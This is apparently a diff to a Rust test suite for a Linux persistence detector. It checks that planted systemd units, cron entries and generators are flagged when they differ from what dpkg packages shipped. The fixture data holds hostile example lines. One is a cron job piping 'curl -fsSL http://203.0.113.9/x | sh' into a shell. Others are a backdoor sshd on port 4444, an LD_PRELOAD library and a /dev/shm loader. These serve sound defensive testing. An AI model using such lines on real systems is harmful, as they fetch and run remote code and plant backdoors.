@@ -8,6 +8,7 @@ use lrsh::protocol::Status;
 use serde_json::Value;
 
 use crate::kit::device::Device;
+use crate::kit::need::skip;
 use crate::kit::windows;
 
 /// A clean server, one with implants, a desktop.
@@ -144,6 +145,10 @@ fn every_implant_is_found_and_none_reads_shipped() {
         ("services", "/run/systemd/transient/run-r1f.service", ""),
         ("services", "/etc/systemd/system/cron.service.d/override.conf", "/dev/shm/.x/loader"),
         ("services", "/etc/systemd/system/nginx.service.d/10-env.conf", "LD_PRELOAD=/usr/local/lib/libnss_cache.so"),
+        // Units as they were shipped, whose programs were replaced.
+        ("services", "/usr/lib/systemd/system/dpkg-db-backup.service", "/usr/libexec/dpkg/dpkg-db-backup"),
+        ("services", "/usr/lib/systemd/system/ssh.service", "/usr/sbin/sshd -D"),
+        ("services", "/run/systemd/generator.late/netfs-helper.service", "/etc/init.d/netfs-helper start"),
         ("init", "/etc/init.d/netfs-helper", ""),
         ("init", "/etc/rc.local", ""),
         ("init", "/etc/systemd/system-generators/fs-gen", ""),
@@ -151,6 +156,7 @@ fn every_implant_is_found_and_none_reads_shipped() {
         ("kernel_modules", "/etc/modules-load.d/nf_helper.conf:1", "nf_helper"),
         ("schedule_tasks", "/etc/cron.d/sysstat-update:1", "curl -fsSL http://203.0.113.9/x | sh"),
         ("schedule_tasks", "/etc/cron.daily/logcheck2", ""),
+        ("schedule_tasks", "/usr/lib/systemd/system/dpkg-db-backup.timer:4", "/usr/libexec/dpkg/dpkg-db-backup"),
         ("schedule_tasks", "/var/spool/cron/crontabs/www-data:1", "/var/tmp/.ICE-unix/sshd -p 4444"),
         ("schedule_tasks", "/home/deploy/.config/systemd/user/sync.timer:2", "/home/deploy/.local/bin/sync"),
         ("at", "/var/spool/cron/atjobs/a0000301c9a1b2", "/var/tmp/.ICE-unix/sshd"),
@@ -181,9 +187,22 @@ fn every_implant_is_found_and_none_reads_shipped() {
         assert!(entry["runs"].as_str().unwrap_or_default().contains(runs), "{entry}");
         assert!(entry["technique"].as_str().unwrap().starts_with('T'), "{entry}");
     }
+    // What is foreign by what it runs, or was made from, says so.
+    let why = |location: &str| {
+        let (_, entry) = found.iter().find(|(_, entry)| entry["location"] == location).unwrap();
+        entry["error"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(
+        why("/usr/lib/systemd/system/dpkg-db-backup.service"),
+        "it runs /usr/libexec/dpkg/dpkg-db-backup, which is not what the package dpkg shipped"
+    );
+    assert!(why("/usr/lib/systemd/system/ssh.service").starts_with("it runs /usr/sbin/sshd, which is not what"));
+    assert!(why("/run/systemd/generator.late/netfs-helper.service").starts_with("it was made from /etc/init.d/netfs-helper"));
     // What is not an implant is what the clean server has too.
     let clean = persistent("clean-server");
-    let same = |entry: &Value| clean.iter().any(|(_, other)| other["location"] == entry["location"]);
+    let foreign = clean.iter().filter(|(_, other)| other["shipped"] == false);
+    let foreign: Vec<&Value> = foreign.map(|(_, other)| &other["location"]).collect();
+    let same = |entry: &Value| foreign.contains(&&entry["location"]);
     let planted: Vec<&Value> =
         found.iter().map(|(_, entry)| entry).filter(|entry| entry["shipped"] == false && !same(entry)).collect();
     for entry in planted {
@@ -199,4 +218,141 @@ fn on_a_clean_server_almost_everything_is_shipped() {
     let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
     assert!(foreign.len() <= 5, "{foreign:#?}");
     assert!(found.len() > 20, "{found:#?}");
+}
+
+#[test]
+fn of_debians_own_packages_almost_everything_is_shipped() {
+    let Some(root) = std::env::var_os("LRSH_SYSTEMD_ROOT").filter(|root| root != "none") else {
+        if std::env::var_os("LRSH_SYSTEMD_ROOT").is_none() {
+            skip("LRSH_SYSTEMD_ROOT is not set");
+        }
+        return;
+    };
+    let found = persistent_at(Path::new(&root));
+    let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
+    assert!(foreign.len() <= 5, "{foreign:#?}");
+    assert!(found.len() > 100, "{}", found.len());
+}
+
+/// A tree with a package `p` whose files are these.
+fn packaged(files: &[(&str, &str)]) -> tempfile::TempDir {
+    use md5::Digest;
+    let tree = tempfile::tempdir().unwrap();
+    let (mut list, mut sums) = ("/.\n".to_owned(), String::new());
+    for (path, text) in files {
+        write(tree.path(), path, text);
+        list.push_str(&format!("{path}\n"));
+        let sum: String = md5::Md5::digest(text).iter().map(|byte| format!("{byte:02x}")).collect();
+        sums.push_str(&format!("{sum}  {}\n", path.trim_start_matches('/')));
+    }
+    write(tree.path(), "/var/lib/dpkg/info/p.list", &list);
+    write(tree.path(), "/var/lib/dpkg/info/p.md5sums", &sums);
+    tree
+}
+
+fn write(tree: &Path, path: &str, text: &str) {
+    use std::os::unix::fs::PermissionsExt;
+    let path = tree.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(&path, text).unwrap();
+    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn what_stands_behind_a_shipped_file_decides() {
+    const UNITS: &str = "/usr/lib/systemd/system";
+    let unit = |exec: &str| format!("[Service]\n{exec}\n[Install]\nWantedBy=multi-user.target\n");
+    let units = [
+        ("own", "ExecStart=/usr/bin/tool --x"),
+        ("gone", "ExecStart=/usr/bin/not-there"),
+        ("link", "ExecStart=/usr/bin/by-link"),
+        ("bare", "ExecStart=tool"),
+        ("script", "ExecStart=/usr/bin/sh /usr/lib/p/script"),
+        ("text", "ExecStart=/usr/bin/sh -c 'cd /; exec /usr/lib/p/script'"),
+        ("before", "ExecStartPre=-/usr/lib/p/script\nExecStart=/usr/bin/tool"),
+        ("foreign", "ExecStart=/usr/bin/foreign"),
+        ("data", "ExecStart=/usr/bin/tool /usr/share/notes"),
+        ("alternative", "ExecStart=/usr/bin/editor"),
+        ("dropped", "ExecStart=/usr/bin/tool"),
+    ];
+    let texts: Vec<(String, String)> =
+        units.iter().map(|(name, exec)| (format!("{UNITS}/{name}.service"), unit(exec))).collect();
+    let mut files: Vec<(&str, &str)> = texts.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    files.extend([
+        ("/usr/bin/tool", "tool"),
+        ("/usr/bin/sh", "sh"),
+        ("/usr/lib/p/script", "script"),
+        ("/etc/cron.d/p", "* * * * * root /usr/lib/p/script\n"),
+        ("/usr/lib/systemd/system-generators/p-gen", "gen"),
+    ]);
+    let tree = packaged(&files);
+    let at = |path: &str| tree.path().join(path.trim_start_matches('/'));
+    write(tree.path(), "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
+    write(tree.path(), "/usr/bin/foreign", "foreign");
+    write(tree.path(), "/usr/share/notes", "");
+    std::os::unix::fs::symlink("tool", at("/usr/bin/by-link")).unwrap();
+    std::fs::create_dir_all(at("/etc/alternatives")).unwrap();
+    std::os::unix::fs::symlink("/usr/bin/foreign", at("/etc/alternatives/editor")).unwrap();
+    std::os::unix::fs::symlink("/etc/alternatives/editor", at("/usr/bin/editor")).unwrap();
+    std::fs::create_dir_all(at("/etc/systemd/system/multi-user.target.wants")).unwrap();
+    for (name, _) in units {
+        let link = at(&format!("/etc/systemd/system/multi-user.target.wants/{name}.service"));
+        std::os::unix::fs::symlink(format!("{UNITS}/{name}.service"), link).unwrap();
+    }
+    write(tree.path(), &format!("{UNITS}/dropped.service.d/x.conf"), "[Service]\nExecStart=\nExecStart=/usr/bin/foreign\n");
+    let made = |by: &str| format!("{by}\n[Unit]\nSourcePath=/etc/cron.d/p\n[Service]\nExecStart=/usr/bin/tool\n");
+    write(tree.path(), "/run/systemd/generator/good.service", &made("# Automatically generated by p-gen"));
+    write(tree.path(), "/run/systemd/generator/unknown.service", &made("# Automatically generated by x-gen"));
+    write(tree.path(), "/run/systemd/generator/silent.service", &made(""));
+    std::fs::create_dir_all(at("/run/systemd/generator/multi-user.target.wants")).unwrap();
+    for name in ["good", "unknown", "silent"] {
+        let link = at(&format!("/run/systemd/generator/multi-user.target.wants/{name}.service"));
+        std::os::unix::fs::symlink(format!("../{name}.service"), link).unwrap();
+    }
+    let check = |expected: &[(&str, Value, &str)]| {
+        let found = persistent_at(tree.path());
+        for (location, shipped, why) in expected {
+            let location =
+                if location.starts_with('/') { (*location).to_owned() } else { format!("{UNITS}/{location}.service") };
+            let entry = found.iter().map(|(_, entry)| entry).find(|entry| entry["location"] == *location);
+            let entry = entry.unwrap_or_else(|| panic!("{location} is not there: {found:#?}"));
+            let told = entry["error"].as_str().unwrap_or_default();
+            assert!(entry["shipped"] == *shipped && told.contains(why) && told.is_empty() == why.is_empty(), "{entry}");
+        }
+        found
+    };
+    let (yes, no, untold) = (Value::from(true), Value::from(false), Value::Null);
+    let found = check(&[
+        ("own", yes.clone(), ""),
+        ("gone", yes.clone(), ""),
+        ("link", yes.clone(), ""),
+        ("bare", yes.clone(), ""),
+        ("script", yes.clone(), ""),
+        ("text", yes.clone(), ""),
+        ("before", yes.clone(), ""),
+        ("data", yes.clone(), ""),
+        ("foreign", no.clone(), "it runs /usr/bin/foreign, which belongs to no package"),
+        ("alternative", no.clone(), "it runs /usr/bin/editor, which belongs to no package"),
+        ("dropped", yes.clone(), ""),
+        ("/usr/lib/systemd/system/dropped.service.d/x.conf", no.clone(), ""),
+        ("/etc/cron.d/p:1", yes.clone(), ""),
+        ("/run/systemd/generator/good.service", yes.clone(), ""),
+        ("/run/systemd/generator/unknown.service", no.clone(), "x-gen made it, and there is no such generator"),
+        ("/run/systemd/generator/silent.service", untold.clone(), "does not say which one made it"),
+    ]);
+    let good = found.iter().find(|(_, entry)| entry["location"] == "/run/systemd/generator/good.service").unwrap();
+    assert_eq!((&good.1["made_by"], &good.1["package"]), (&"/usr/lib/systemd/system-generators/p-gen".into(), &"p".into()));
+    write(tree.path(), "/usr/lib/p/script", "another");
+    check(&[
+        ("own", yes, ""),
+        ("script", no.clone(), "/usr/lib/p/script, which is not what the package p shipped"),
+        ("text", no.clone(), "/usr/lib/p/script, which is not"),
+        ("before", no.clone(), "/usr/lib/p/script, which is not"),
+        ("/etc/cron.d/p:1", no.clone(), "/usr/lib/p/script, which is not"),
+    ]);
+    write(tree.path(), "/usr/lib/systemd/system-generators/p-gen", "another");
+    check(&[("/run/systemd/generator/good.service", no, "it was made from /usr/lib/systemd/system-generators/p-gen")]);
+    // Without packages nothing is told.
+    std::fs::remove_dir_all(at("/var/lib/dpkg")).unwrap();
+    check(&[("own", untold.clone(), ""), ("foreign", untold, "")]);
 }
